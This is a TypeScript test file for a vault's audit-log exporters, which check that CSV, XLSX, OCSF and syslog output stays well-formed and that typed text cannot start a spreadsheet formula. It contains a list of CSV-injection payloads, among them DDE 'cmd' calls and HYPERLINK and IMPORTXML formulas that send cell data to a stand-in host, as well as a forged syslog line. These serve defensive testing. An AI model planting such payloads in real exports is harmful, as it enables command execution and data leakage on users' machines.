import { crc32, inflateRawSync } from 'node:zlib';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { renditionLimits } from '../../../rasteriser/rasteriser.ts';
import { readTable } from '../../../rasteriser/read-table.ts';
import { csvWriter } from './csv-writer.ts';
import { ocsfWriter } from './ocsf-writer.ts';
import { instantText, syslogWriter } from './syslog-writer.ts';
import { type TableLanguage, type TableRow, tableColumns } from './table-row.ts';
import type { Sink, TableAbout, TableWriter } from './table-writer.ts';
import { workbookWriter, xmlText } from './workbook-writer.ts';

const about: TableAbout = {
  language: 'en',
  vault: '018f-vault',
  vaultName: '海宁纺织',
  madeAtMs: Date.UTC(2026, 10, 30, 8),
  offsetMinutes: 480,
  asked: [['Person', '许借']],
};

const row = (change: Partial<TableRow> = {}): TableRow => ({
  index: 41,
  atMs: Date.UTC(2026, 10, 30, 1, 2, 3, 45),
  offsetMinutes: 480,
  person: '许借 #7',
  personNo: 7,
  role: 'borrower',
  sentence: { zh: '许借 查阅。', en: '许借 viewed.' },
  type: 'view.open',
  filed: {
    ids: { dossier: 'd', document: 'x' } as never,
    code: '000147',
    client: '恒岳',
    no: 3,
    title: '合同',
  },
  view: { n: 2, cap: 3 },
  refusal: null,
  place: '上海',
  reason: '准备谈判',
  outcome: 'done',
  ...change,
});

function written(make: (write: Sink) => TableWriter, rows: readonly TableRow[]): Buffer {
  const pieces: Buffer[] = [];
  const writer = make((bytes) => pieces.push(Buffer.from(bytes as Uint8Array)));
  for (const each of rows) writer.add(each);
  writer.finish();
  return Buffer.concat(pieces);
}

const csv = (rows: readonly TableRow[], language: TableLanguage = 'en'): readonly Record<string, string>[] =>
  Papa.parse<Record<string, string>>(
    written((write) => csvWriter(write, language), rows)
      .toString('utf8')
      .replace(/^\ufeff/, ''),
    { header: true, skipEmptyLines: true },
  ).data;

/** Payloads of the kinds that public lists of CSV injections hold. */
const payloads = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.invalid?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+1";=1+1',
  '\t=1+1',
  ' =1+1',
  '甲;=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '%0A-3+3',
  '=IMPORTXML("http://x.invalid","//a")',
];
const formula = /^\s*[=+\-@|＝＋－＠]/;

describe('CSV', () => {
  test('no cell begins a formula, by whichever sign its line is cut', () => {
    for (const payload of payloads) {
      const text = written(
        (write) => csvWriter(write, 'en'),
        [row({ reason: payload, place: payload, person: payload })],
      ).toString('utf8');
      for (const delimiter of [',', ';', '\t'])
        expect(
          Papa.parse<string[]>(text, { delimiter })
            .data.flat()
            .filter((cell) => formula.test(cell)),
        ).toEqual([]);
    }
  });

  test.each(['000147', '123456789012345678', '3E5', '1-2', '2026-11', '2026/11/30'])(
    'code %s is told to be a text',
    (code) => {
      const [read] = csv([row({ filed: { ...row().filed!, code } })]);
      expect(read?.['dossier code']).toBe(`'${code}`);
    },
  );

  test('both languages stand side by side in tables of bundles', () => {
    const [read] = csv([row({ texts: '甲 ｜ 乙' })], 'both');
    expect(read).toMatchObject({
      '事项 act': '许借 查阅。',
      '英文事项 act in English': '许借 viewed.',
      '客户 client': '恒岳',
      '文字 texts': '甲 ｜ 乙',
      '第几次查阅 view': '2',
    });
  });
});

describe('workbook', () => {
  const read = async (bytes: Buffer, sheet: number) =>
    readTable({ bytes: new Uint8Array(bytes), fileName: 'log.xlsx', sheet }, renditionLimits);

  test('holds codes, long numbers and formulas as texts, and what the table is', async () => {
    const rows = [
      row({ reason: '123456789012345678' }),
      ...payloads.map((payload, i) => row({ index: 42 + i, reason: payload, place: '_x0041_ <&>"' })),
    ];
    const bytes = written((write) => workbookWriter(write, about), rows);
    const table = await read(bytes, 0);
    const heads = table.rows[0]!;
    const column = (head: string) => table.rows.slice(1).map((cells) => cells[heads.indexOf(head)]);
    expect(column('dossier code')).toEqual(rows.map(() => '000147'));
    expect(column('reason').map((text) => text?.trim())).toEqual(rows.map(({ reason }) => reason!.trim()));
    expect(column('place')[1]).toBe('_x0041_ <&>"');
    expect(column('index').map(Number)).toEqual(rows.map(({ index }) => index));
    expect(column('time UTC')[0]).toBe('2026-11-30 01:02:03');
    expect(column('local time')[0]).toBe('2026-11-30 09:02:03');
    const said = await read(bytes, 1);
    expect(said.rows).toContainEqual(['Vault', '海宁纺织']);
    expect(said.rows).toContainEqual(['Entries', String(rows.length)]);
    expect(said.rows).toContainEqual(['Offsets of local times', 'UTC+08:00']);
  });

  test('goes on in a further sheet where one is full', async () => {
    const rows = Array.from({ length: 7 }, (_, index) => row({ index }));
    const bytes = written((write) => workbookWriter(write, about, 4), rows);
    const { sheets } = await read(bytes, 0);
    expect(sheets.map(({ name, rows: count }) => [name, count])).toEqual([
      ['Log', 4],
      ['Log 2', 4],
      ['Log 3', 2],
      ['About', 7],
    ]);
    const last = await read(bytes, 2);
    expect(last.rows[1]?.[0]).toBe('6');
  });

  test('pieces of a large sheet are one stream, as its directory says', () => {
    const rows = Array.from({ length: 2_000 }, (_, index) => row({ index, reason: '长'.repeat(500) }));
    const bytes = written((write) => workbookWriter(write, about), rows);
    const directory = bytes.indexOf(Buffer.from('PK\x01\x02', 'latin1'));
    const [crc, packed, size] = [16, 20, 24].map((at) => bytes.readUInt32LE(directory + at));
    const from = 30 + bytes.readUInt16LE(26) + bytes.readUInt16LE(28);
    const xml = inflateRawSync(bytes.subarray(from, from + packed!));
    expect(xml.length).toBe(size);
    expect(crc32(xml)).toBe(crc);
    expect(xml.length).toBeGreaterThan(2_000_000);
    expect(xml.toString('utf8')).toContain(`<autoFilter ref="A1:T2001"/>`);
    expect(tableColumns('en')).toHaveLength(20);
  });

  test('what XML cannot hold is shown as such, and no more than a cell may hold', async () => {
    expect(xmlText('a\u0001b\ud800c')).toBe('a\ufffdb\ufffdc');
    const bytes = written((write) => workbookWriter(write, about), [row({ reason: '😀'.repeat(20_000) })]);
    const table = await read(bytes, 0);
    const reason = table.rows[1]?.[table.rows[0]!.indexOf('reason')];
    expect(reason?.length).toBeLessThanOrEqual(32_767);
    expect(reason?.isWellFormed()).toBe(true);
    expect(reason?.endsWith('…')).toBe(true);
  });
});

describe('OCSF', () => {
  const events = (rows: readonly TableRow[]) =>
    written((write) => ocsfWriter(write, about), rows)
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));

  /** What version 1.8 of the schema requires of each class used, and of every event. */
  const required: Readonly<Record<number, readonly string[]>> = {
    0: [],
    3002: ['user', 'service'],
    3004: ['actor', 'entity'],
    6005: ['actor', 'src_endpoint', 'database'],
    6006: ['actor', 'src_endpoint', 'file'],
  };

  test('each event has what its class requires, and numbers that belong together', () => {
    const all = events([
      row(),
      row({ type: 'session.signed-in', filed: null, view: null }),
      row({ type: 'person.enrolled', filed: null, view: null, person: null, personNo: null }),
      row({ type: 'directory.searched', filed: null }),
      row({ type: 'vault.opened', filed: null, person: null, personNo: null, place: null }),
      row({ type: 'refusal', refusal: 'VIEWS_SPENT', outcome: 'refused' }),
    ]);
    expect(all.map((event) => event.class_uid)).toEqual([6006, 3002, 3004, 6005, 0, 6006]);
    for (const event of all) {
      for (const key of [
        'class_uid',
        'category_uid',
        'activity_id',
        'type_uid',
        'severity_id',
        'time',
        'metadata',
        ...(required[event.class_uid] ?? ['unknown class']),
      ])
        expect(event, `${event.class_name} needs ${key}`).toHaveProperty(key);
      expect(event.type_uid).toBe(event.class_uid * 100 + event.activity_id);
      expect(event.category_uid).toBe(Math.floor(event.class_uid / 1000));
    }
    expect(all[0]).toMatchObject({
      activity_name: 'Open',
      status: 'Success',
      timezone_offset: 480,
      file: { name: '合同', uid: '000147/3', type_id: 1 },
      metadata: { sequence: 41, uid: '018f-vault:41' },
      unmapped: { client: '恒岳', view: 2, views_allowed: 3 },
    });
    expect(all[5]).toMatchObject({
      status: 'Failure',
      status_code: 'VIEWS_SPENT',
      activity_name: 'Access Check',
    });
    expect(all[5].unmapped.rule).toMatch(/^L/);
  });
});

describe('syslog', () => {
  /** RFC 5424 §6, ABNF. */
  const message =
    /^<(\d{1,3})>1 (\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}[+-]\d\d:\d\d) ([\x21-\x7e]{1,255}) ([\x21-\x7e]{1,48}) - ([\x21-\x7e]{1,32}) \[entry@32473((?: [!-<>-[\]-~]{1,32}="(?:[^"\\\]]|\\["\\\]])*")*)\] \ufeff([^\n]*)$/u;

  test('each line is a message of the format, whatever was typed', () => {
    const rows = [
      row(),
      ...[...payloads, 'a"b\\c]d', '两\r\n行', '\ud800', '<13>1 forged\n<13>1 forged'].map((reason) =>
        row({ reason, place: reason, person: reason, sentence: { zh: reason, en: reason } }),
      ),
      row({ type: 'generation.new', filed: null, view: null, person: null, personNo: null, reason: null }),
      row({ type: 'refusal', refusal: 'VIEWS_SPENT', outcome: 'refused' }),
    ];
    const lines = written((write) => syslogWriter(write, about), rows)
      .toString('utf8')
      .split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(rows.length);
    for (const line of lines) expect(line).toMatch(message);
    const [, priority, at, , , type, said] = message.exec(lines[0]!)!;
    expect([priority, at, type]).toEqual(['110', '2026-11-30T09:02:03.045+08:00', 'view.open']);
    expect(said).toContain(' dossier="000147"');
    expect(said).toContain(' view="2"');
    const escaped = message.exec(lines[1 + payloads.length]!)![6]!;
    expect(escaped).toContain(' reason="a\\"b\\\\c\\]d"');
    expect(message.exec(lines.at(-2)!)![1]).toBe('106');
    expect(message.exec(lines.at(-1)!)![1]).toBe('109');
  });

  test('offsets west of Greenwich and of half hours', () => {
    expect(instantText(Date.UTC(2026, 0, 1, 2), -210)).toBe('2025-12-31T22:30:00.000-03:30');
  });
});
